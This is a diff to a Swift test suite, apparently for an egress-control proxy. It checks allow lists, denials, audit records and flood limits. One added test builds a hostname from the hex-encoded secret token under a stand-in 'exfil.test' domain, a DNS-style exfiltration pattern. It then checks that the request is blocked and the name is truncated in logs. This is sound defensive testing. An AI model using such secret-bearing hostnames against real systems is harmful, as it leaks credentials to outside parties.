@@ -179,6 +179,9 @@ import TestSupport
         #expect(probe(router, "/fetch?url=" + query("http://allowed.test:\(up)/x")).hasPrefix("200 "), "\(log(state.path))")
         let denied = probe(router, "/fetch?url=" + query("http://denied.test:\(up)/"))
         #expect(denied.hasPrefix("403 ") && denied.contains("denied.test is on no allow list"), "\(denied)")
+        // A name made of the secret (hex) is denied too, and reaches no record as it is.
+        let smuggled = Data(token.utf8).map { String(format: "%02x", $0) }.joined()
+        #expect(probe(router, "/fetch?url=" + query("http://\(smuggled.prefix(60)).exfil.test:\(up)/")).hasPrefix("403 "))
         #expect(probe(router, "/fetch?url=" + query("http://a.svc.test:\(up)/")).hasPrefix("200 "))
         #expect(probe(router, "/fetch?url=" + query("http://a.b.svc.test:\(up)/")).hasPrefix("403 "))
         let blocked = probe(router, "/fetch?url=" + query("http://blocked.test:\(up)/"))
@@ -253,6 +256,7 @@ import TestSupport
         // The records: egress-denied (naming host and service), dlp-blocked (the rule), kill-switch on and off.
         let records = try gantry("audit", "log", "--repo", repo.path, "--env", "probe", "--json").stdout
         #expect(records.contains("\"egress-denied\"") && records.contains("denied.test"))
+        #expect(records.contains("….exfil.test") && !records.contains(String(smuggled.prefix(24))), "a name that could carry a secret is cut in records")
         let floods = Set((try NSRegularExpression(pattern: "flood[0-9]+\\.example\\.org")).matches(in: records, range: NSRange(records.startIndex..., in: records))
             .compactMap { Range($0.range, in: records).map { String(records[$0]) } })
         #expect(!floods.isEmpty && floods.count <= 20, "\(floods.count) flooded names recorded one by one")
